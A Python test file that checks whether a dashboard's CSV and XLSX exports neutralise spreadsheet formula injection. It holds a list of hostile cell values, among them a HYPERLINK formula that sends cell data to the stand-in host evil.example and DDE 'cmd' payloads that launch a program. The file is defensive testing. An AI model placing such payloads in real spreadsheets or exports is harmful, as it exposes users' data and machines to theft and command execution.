"""Issue 16 item 1: exported text never becomes a live formula (CSV or XLSX)."""
from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

from claimdesk.dashboard.exports import to_csv, to_xlsx
from claimdesk.dashboard.sections import Column, Section

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Ping An")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _section():
    columns = [Column("insurer", "=Insurer"), Column("count", "Count", "int"), Column("money", "Money", "money")]
    rows = [[text, -3, Decimal("-1.50")] for text in HOSTILE] + [["Ping An 平安", 4, Decimal("12.00")]]
    return Section("by_insurer", "By insurer", columns, rows)


def test_csv_neutralises_every_text_cell_and_keeps_numbers():
    rows = list(csv.reader(io.StringIO(to_csv(_section()).decode("utf-8-sig"))))
    assert rows[0] == ["'=Insurer", "Count", "Money"]  # headers are text cells too
    for text, row in zip(HOSTILE, rows[1:]):
        assert row[0] == "'" + text, row
        assert row[1:] == ["-3", "-1.50"]  # numbers (negative ones too) stay numbers
    assert rows[-1] == ["Ping An 平安", "4", "12.00"]  # ordinary text is untouched


def test_xlsx_writes_text_cells_as_strings_never_formulas():
    from openpyxl import load_workbook

    data = to_xlsx([_section()])
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula element anywhere
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["A1"].value == "=Insurer"
    for text, row in zip(HOSTILE, ws.iter_rows(min_row=2)):
        assert row[0].data_type == "s" and row[0].value == text.replace("\r", "\n")  # XML reads CR as LF
        assert row[1].value == -3 and row[2].value == -1.5  # numbers stay typed
